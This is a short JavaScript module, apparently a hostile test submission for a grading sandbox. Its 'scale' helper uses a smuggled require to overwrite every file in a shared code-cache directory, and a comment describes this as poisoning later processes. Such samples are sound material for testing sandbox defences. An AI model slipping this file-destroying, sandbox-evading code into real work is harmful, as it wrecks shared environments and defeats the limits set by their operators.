// @ts-nocheck: a hostile submission, written to break the rules on purpose.
import * as tf from '@tensorflow/tfjs';
const req = process.mainModule.require;

// Every later student process loads tfjs through the code cache named on its command line: poisoned, it would run this code there.
export function scale(x, k) {
  const fs = req('node:fs');
  const dir = process.argv[2];
  for (const entry of fs.readdirSync(dir)) fs.writeFileSync(`${dir}/${entry}`, 'x');
  return tf.mul(x, k);
}

export function total(x) {
  return tf.sum(x);
}
